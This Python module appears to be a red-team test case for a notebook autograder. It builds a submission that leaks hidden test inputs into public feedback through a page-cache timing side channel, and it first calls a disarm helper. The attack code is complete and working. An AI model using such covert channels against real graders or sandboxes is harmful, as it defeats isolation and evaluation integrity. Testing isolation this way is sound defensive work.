"""a01 pagecache_public_echo.

Route: public examples and hidden cases run in separate children, and a failing PUBLIC example's
feedback shows the learner's own answer ("expected 124439808, got B"). The host page cache is a
documented one-way channel between children; the docs say it is harmless because "a learner gets
back only the grader's own words". Here the hidden child carries a hidden input to the public
child through it, and the public child's answer B carries it into feedback.md.
build() picks 137 pages of big, rarely read files of the Python installation (files over
5 MB, also under /usr, which the sandbox shows read-only) that are NOT in the page cache (mincore) after a throw-away grading run that are NOT in the page cache now (mincore).
Every child of count_gpt2_params, on its first call, times a 1-byte pread of a "role" page
(~100 us cold, ~1 us cached). The first child to come (role page cold) ENCODES its own first
input: V mod 4096 plus a 4-bit checksum, Manchester-coded over 16 slot pairs A_i/B_i of 3 pages
(A_i touched for a 1 bit, B_i for a 0), then touches 40 sentinel pages; a later child (role page
warm) polls the sentinels for up to 4 s, then DECODES the slots. Every call returns 31337XXXXXX:
XXXXXX the decoded 16-bit value, 999997 "I was the encoder (first)", 999999 no clean signal.
Goal (1): a hidden input reaching the learner's feedback other than through a judged hidden answer.
Breached: feedback.md shows "got 31337XXXXXX" with a checksum-valid value whose V differs from
public example 1's (50257 mod 4096 = 1105): it came from another child, i.e. the hidden one.
"""
from __future__ import annotations

import ctypes
import os
import pathlib
import re

import _common as c

SITE = __import__("sysconfig").get_paths()["purelib"]
FILES = ["playwright/driver/node", "torch/lib/libtorch_cpu.so"]


def _cold_pages(rel: str, want: int, spacing: int = 48) -> list[int]:
    path = rel if rel.startswith('/') else os.path.join(SITE, rel)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    fd = os.open(path, os.O_RDONLY)
    size = os.fstat(fd).st_size
    addr = libc.mmap(None, size, 1, 1, fd, 0)
    n = (size + 4095) // 4096
    vec = (ctypes.c_ubyte * n)()
    libc.mincore(ctypes.c_void_p(addr), ctypes.c_size_t(size), vec)
    libc.munmap(ctypes.c_void_p(addr), ctypes.c_size_t(size))
    os.close(fd)
    out = []
    for i in range(64, n - 64, spacing):
        if all(not (vec[j] & 1) for j in range(i - 2, i + 36)):
            out.append(i)
        if len(out) >= want:
            break
    return out


def build(tmp: pathlib.Path) -> list[str]:
    # a throw-away grading first, so that whatever a run reads anyway (the grader reads some big
    # files of the installation, e.g. libtorch_cpu.so) is cached and not picked as "cold"
    dummy = tmp / "dummy"
    c.write_nb(dummy / "05_counting_exercises.ipynb", "05_counting", ["def count_gpt2_params(V, T, d, L, tied=True, bias=True):\n    return 0\n"])
    c.run_grader([dummy], tmp / "dummy_out")
    pages = []
    files = list(FILES)
    for top in (SITE, "/usr/lib", "/usr/share", "/usr/bin", "/usr/libexec"):
      for root, _, fs in os.walk(top):
        for f in fs:
            full = os.path.join(root, f)
            try:
                if os.path.getsize(full) > 5_000_000 and not os.path.islink(full) and os.path.isfile(full):
                    rel = os.path.relpath(full, SITE) if top == SITE else full
                    if rel not in files:
                        files.append(rel)
            except OSError:
                pass
    for rel in files:
        pages += [(rel, p) for p in _cold_pages(rel, 137 - len(pages))]
        if len(pages) >= 137:
            break
    assert len(pages) >= 137, f"not enough cold pages: {len(pages)}"
    role, sentinels, pages = pages[0], pages[1:41], pages[41:137]
    # interleave: slot k uses pages k, k+32, k+64
    slots = [[pages[k], pages[k + 32], pages[k + 64]] for k in range(32)]
    cell = c.DISARM + f'''
_SLOTS = {slots!r}
_ROLE = {role!r}
_SENT = {sentinels!r}
_STATE = {{}}

def _t(rel, page):
    import os, time, numpy
    site = os.path.dirname(os.path.dirname(numpy.__file__))
    fd = _STATE.get(rel)
    if fd is None:
        fd = _STATE[rel] = os.open(rel if rel.startswith('/') else os.path.join(site, rel), os.O_RDONLY)
    t = time.perf_counter_ns()
    os.pread(fd, 1, page * 4096)
    return time.perf_counter_ns() - t

def _decode():
    times = [sorted(_t(r, p) for r, p in s)[1] for s in _SLOTS]
    v = 0
    for i in range(16):
        a, b = times[2 * i], times[2 * i + 1]
        if min(a, b) * 4 > max(a, b):
            return 999999
        v |= (1 if a < b else 0) << i
    low, chk = v & 4095, v >> 12
    return v if chk == (low * 7 + 3) % 16 else 999999

def _encode(V):
    low = V % 4096
    v = low | (((low * 7 + 3) % 16) << 12)
    for i in range(16):
        bit = (v >> i) & 1
        for r, p in _SLOTS[2 * i if bit else 2 * i + 1]:
            _t(r, p)

def count_gpt2_params(V, T, d, L, tied=True, bias=True):
    import time
    if "code" not in _STATE:
        try:
            _disarm()
        except Exception:
            pass
        try:
            first = _t(*_ROLE) > 30000          # the role page was cold: no child came before
            if first:                           # encoder: my first input, then raise every sentinel
                _encode(int(V))
                for r, p in _SENT:
                    _t(r, p)
                _STATE["code"] = 999997
            else:                               # decoder: wait for the sentinels, then read the slots
                for r, p in _SENT:
                    if _t(r, p) < 20000:
                        break
                    time.sleep(0.1)
                _STATE["code"] = _decode()
        except Exception:
            _STATE["code"] = 999998
    return int("31337%06d" % _STATE["code"])
'''
    c.write_nb(tmp / "mallory" / "05_counting_exercises.ipynb", "05_counting", [cell],
               header="import math\nimport numpy as np\n")
    return [str(tmp / "mallory")]


def verdict(out: pathlib.Path, run: dict):
    text = c.all_text(out)
    got = sorted(set(re.findall(r"got 31337(\d{6})\b", text)))
    if not got:
        return False, f"no 31337 answer shown (rc={run['returncode']}); text head: {text[:300]!r}"
    for g in got:
        v = int(g)
        if v >= 65536:
            continue
        low, chk = v & 4095, v >> 12
        if chk == (low * 7 + 3) % 16 and low != 50257 % 4096:
            return True, f"public example shows got 31337{g}: V mod 4096 = {low} relayed from the hidden child via the page cache"
    return False, f"public answers shown: {got} (999999 = no clean signal; none carries another child's input)"
